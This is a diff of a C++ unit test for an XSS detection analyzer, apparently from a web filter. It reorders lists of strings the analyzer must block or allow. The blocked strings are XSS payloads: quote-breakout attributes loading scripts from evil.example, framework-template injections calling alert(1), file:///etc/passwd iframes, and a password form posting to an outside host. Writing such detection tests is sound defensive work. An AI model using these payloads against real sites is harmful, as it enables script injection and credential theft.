@@ -467,41 +467,32 @@ TEST(Xss, LongQueriesAreNoDocuments) {
 // Attributes behind a quote, wherever they stand there, and what those of libraries ask for.
 TEST(Xss, AttributesThatBringIn) {
   const Analyzer& analyzer = analyzer_named("xss");
-  for (const std::string_view text : {"\" x src=//evil.example \"",
-                                      "\" class=a src=//evil.example \"",
-                                      "\"src=//evil.example \"",
-                                      "\" src = //evil.example \"",
-                                      "\" src=/\\evil.example \"",
-                                      "1\" src=\"//evil.example/x.js",
-                                      "\" rel=stylesheet href=//evil.example \"",
-                                      "0;url=//evil.example\" http-equiv=\"refresh",
-                                      "//evil.example/\" rel=stylesheet x=\"",
-                                      "\" style=background:url(//evil.example) \"",
-                                      "<x hx-get=//evil.example hx-trigger=load>",
-                                      "<x ng-include=\"'//evil.example'\">",
-                                      "<form action=//evil.example><input name=password>",
-                                      "<!-- ko text:alert(1) -->",
-                                      "<x click.trigger=\"$this.constructor.constructor('alert(1)')()\">",
-                                      "<x ng:click=\"$event.view.alert(1)\">",
-                                      "<iframe src=file:///etc/passwd>",
-                                      "a=\" src=//evil.example/",
-                                      "5'11\" src=\"//evil.example/",
-                                      "<link rel=attachment href=file:///etc/passwd>"})
+  for (const std::string_view text :
+       {"\" x src=//evil.example \"", "\" class=a src=//evil.example \"", "\"src=//evil.example \"",
+        "\" src = //evil.example \"", "\" src=/\\evil.example \"", "1\" src=\"//evil.example/x.js",
+        "\" rel=stylesheet href=//evil.example \"", "0;url=//evil.example\" http-equiv=\"refresh",
+        "//evil.example/\" rel=stylesheet x=\"", "\" style=background:url(//evil.example) \"",
+        "<x hx-get=//evil.example hx-trigger=load>", "<x ng-include=\"'//evil.example'\">",
+        "<!-- ko text:alert(1) -->", "<x click.trigger=\"$this.constructor.constructor('alert(1)')()\">",
+        "<x ng:click=\"$event.view.alert(1)\">", "<iframe src=file:///etc/passwd>",
+        "a=\" src=//evil.example/", "5'11\" src=\"//evil.example/",
+        "<link rel=attachment href=file:///etc/passwd>"})
     for (const Location location : {Location::kQuery, Location::kBody})
       EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, location, false, "v"))) << text;
   // In rich text they are an author's own.
   for (const std::string_view text :
        {"<x hx-post=/a hx-trigger=load>", "<a data-remote=true href=/a>", "<a data-method=delete href=/a>",
         "<x _=\"on load call f()\">", "<x wire:init=f>", "<x phx-click=f>",
-        "<turbo-frame src=//a.example>"}) {
+        "<form action=//a.example><input name=password>", "<turbo-frame src=//a.example>"}) {
     EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, Location::kQuery, false, "v"))) << text;
     EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, Location::kBody, false, "v"))) << text;
   }
   for (const std::string_view text :
        {"say \"x=1\" y=2", "[video width=\"640\" src=\"https://a.example/b.mp4\"]", "\"src=//cdn.example\"",
-        "don't click href=https://a.example", "el.html(\" src=//cdn.example/x\");",
-        "var a = \" src=//cdn.example/a.js\";", "see \"a\" href=https://a.example/", "<div data-bind>",
-        "a=\"x\" src=\"https://a.example\"", "\"quoted\" and more style=\"color:red\""})
+        "don't click href=https://a.example", "<p><img src=\"file:///var/folders/a/T/x.png\"></p>",
+        "el.html(\" src=//cdn.example/x\");", "var a = \" src=//cdn.example/a.js\";",
+        "see \"a\" href=https://a.example/", "<div data-bind>", "a=\"x\" src=\"https://a.example\"",
+        "\"quoted\" and more style=\"color:red\""})
     for (const Location location : {Location::kQuery, Location::kBody})
       EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, location, false, "v"))) << text;
 }
